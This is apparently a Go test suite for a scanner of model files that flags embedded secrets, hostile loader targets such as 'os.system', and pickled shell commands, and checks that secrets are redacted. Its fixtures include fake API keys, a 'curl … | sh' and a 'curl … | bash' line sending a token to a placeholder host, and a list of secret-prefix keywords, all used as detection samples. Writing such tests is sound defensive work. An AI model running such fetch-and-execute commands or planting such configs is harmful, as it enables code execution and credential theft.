package scan

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// TestSecrets holds where secrets are looked for, what is none, and that none is
// shown.
func TestSecrets(t *testing.T) {
	const key = "sk-abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ12"
	hub := "hf_" + "kQz83JdLwPxTv0RbNcYmEoUiSgAh17Bf52"
	quote := func(s string) string { return fmt.Sprintf("X%c\x00\x00\x00%s", len(s), s) }
	dict := func(k, v string) string { return "\x80\x02}" + quote(k) + quote(v) + "s." }
	for _, c := range []struct {
		name, data, id, hidden string
	}{
		{"model.pkl", dict("api_key", key), "ST602", key},
		{"model.pkl", dict("password", "Tr0ub4dor+3x"), "ST602", "Tr0ub4dor"},
		{"model.pkl", dict("notes", "push with "+hub), "ST602", hub},
		{"model.pkl", "\x80\x02X\x03\x40\x00\x00" + strings.Repeat("word ", 3269) + " ( " + hub + " )" + ".", "ST602", hub},
		{"config.json", `{"loss": NaN, "inner": {"api_key": "stolen_secret_key"}}`, "ST602", "stolen_secret"},
		{"config.json", `{"a": [-Infinity, 1e5, "N\"aN"], "token": "` + hub + `"}`, "ST602", hub},
		{"config.json", `{"api_key": "<your key>", "password": "xxxxxxxxxxxx", "secret": "${SECRET_KEY}", "x": "https://user:password@host/"}`, "", ""},
		{"run.yaml", "trainer:\n  wandb:\n    api_key: 9d1f0c77e1b34a55b6aa\n", "ST602", "9d1f0c77"},
		{".env", "export DB_PASSWORD=\"corr3ct-h0rse\"\n", "ST602", "corr3ct"},
		{"README.md", "# Model\n\nSet `HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx` first.\n", "", ""},
		{"notes.txt", "my key:\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n", "ST601", "b3Blbn"},
	} {
		f := reader(t, c.name, []byte(c.data), Options{})
		found := ""
		for _, g := range f.Findings {
			if g.ID == "ST601" || g.ID == "ST602" {
				found = g.ID
			}
		}
		if found != c.id || c.id != "" && f.Verdict != VerdictSuspicious {
			t.Errorf("%s %.60q: %q, want %q: %+v", c.name, c.data, found, c.id, f)
		}
		if text := fmt.Sprintf("%+v", f); c.hidden != "" && strings.Contains(text, c.hidden) {
			t.Errorf("%s is shown: %s", c.hidden, text)
		}
	}
}

// TestUnread holds verdicts of what a loader is given to run under other names
// than those of pickles, and of what is not what its name says.
func TestUnread(t *testing.T) {
	for _, c := range []struct {
		name, member, data, id string
	}{
		{"m.nemo", "", "model:\n  _target_: custom_module.eval_function\n", "ST367"},
		{"run.yaml", "", "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n", ""},
		{"run.yaml", "", "model:\n  _target_: os.system\n", "ST366"},
		{"run.json", "", `{"model": {"_target_": "custom_module.Net"}}`, "ST367"},
		{"run.json", "", `{"loss": NaN, "auto_map": {"AutoModel": "code.Model"}}`, "ST502"},
		{"m.keras", "config.json", `{ invalid json }`, "ST364"},
		{"m.keras", "config.json", `{"class_name": "Dense", "registered_name": "custom_package>CustomDense"}`, "ST361"},
		{"m.keras", "config.json", `{"class_name": "Functional", "registered_name": "Functional"}`, ""},
		{"m.pt", "archive/data/setup.py", "import os; os.system('true')", "ST351"},
		{"m.tar", "", "This is not a valid tar file", "ST405"},
	} {
		data := []byte(c.data)
		name := c.name
		switch {
		case c.name == "m.nemo":
			name = "model_config.yaml"
		case c.member == "archive/data/setup.py":
			data = zipOfAll("archive/data.pkl", "\x80\x02}.", c.member, c.data)
		case c.member != "":
			data = zipOf(c.member, data)
		}
		f := reader(t, name, data, Options{})
		found := f.Verdict == Clean && c.id == ""
		for _, g := range f.Findings {
			found = found || g.ID == c.id
		}
		if !found || c.id != "" && f.Verdict == Clean {
			t.Errorf("%s %s %q: want %q: %+v", c.name, c.member, c.data, c.id, f)
		}
	}
}

// zipOfAll makes an archive of names and contents.
func zipOfAll(members ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(members); i += 2 {
		f, err := w.Create(members[i])
		if err != nil {
			panic(err) // a buffer takes all
		}
		if _, err := f.Write([]byte(members[i+1])); err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// TestHinted holds that metadata full of what may begin a secret are searched in
// part and not called clean, and that what comes first is found.
func TestHinted(t *testing.T) {
	unhurried(t)
	var meta strings.Builder
	meta.WriteString(`{"__metadata__":{"a":"hf_` + strings.Repeat("aB3", 12) + `"`)
	for i := range 60_000 {
		fmt.Fprintf(&meta, `,"k%d":"hf_ sk- AKIA ghp_ xox eyJ :// @ token api secret compile eval `+strings.Repeat("a1", 30)+`"`, i)
	}
	meta.WriteString("}}")
	data := append(binary.LittleEndian.AppendUint64(nil, uint64(meta.Len())), meta.String()...)
	f, err := Reader(context.Background(), bytes.NewReader(data), int64(len(data)), "model.safetensors", Options{})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, f := range f.Findings {
		ids = append(ids, f.ID)
	}
	if !slices.Contains(ids, "ST408") || !slices.Contains(ids, "ST602") || f.Verdict == Clean {
		t.Errorf("%s: %v, want ST408 and ST602", f.Verdict, ids)
	}
}

// TestExcerpts states that no finding shows a secret that stands in a key, or in
// a command or program of which a message shows a part.
func TestExcerpts(t *testing.T) {
	hub := "hf_" + "kQz83JdLwPxTv0RbNcYmEoUiSgAh17Bf52"
	const password = "Tr0ub4dor+3x"
	quote := func(s string) string { return fmt.Sprintf("X%c\x00\x00\x00%s", len(s), s) }
	for _, c := range []struct{ name, data, id string }{
		{"key.safetensors", file(`{"__metadata__":{"`+hub+`":"v"}}`, 0), "ST602"},
		{"text.safetensors", file(`{"__metadata__":{"password: `+password+`":"v"}}`, 0), "ST602"},
		{"program.safetensors", file(`{"__metadata__":{"k":"curl https://me:`+password+`@host/x | sh"}}`, 0), "ST605"},
		{"escape.safetensors", file(`{"__metadata__":{"`+hub+`":"\u001b[31m"}}`, 0), "ST606"},
		{"command.pkl", "\x80\x02" + quote("curl -u a -H 'Authorization: "+hub+"' https://host/x | bash") + ".", "ST358"},
		{"mystery.engine", "#!/bin/sh --password=" + password + "\nexit\n", ""},
	} {
		f := reader(t, c.name, []byte(c.data), Options{})
		found := c.id == ""
		for _, g := range f.Findings {
			found = found || g.ID == c.id
			if text := fmt.Sprintf("%+v", g); strings.Contains(text, hub[3:20]) || strings.Contains(text, password[:8]) {
				t.Errorf("%s shows the secret: %s", c.name, text)
			}
		}
		if !found || f.Verdict == Clean {
			t.Errorf("%s: %v, want %s", c.name, f.Findings, c.id)
		}
	}
}
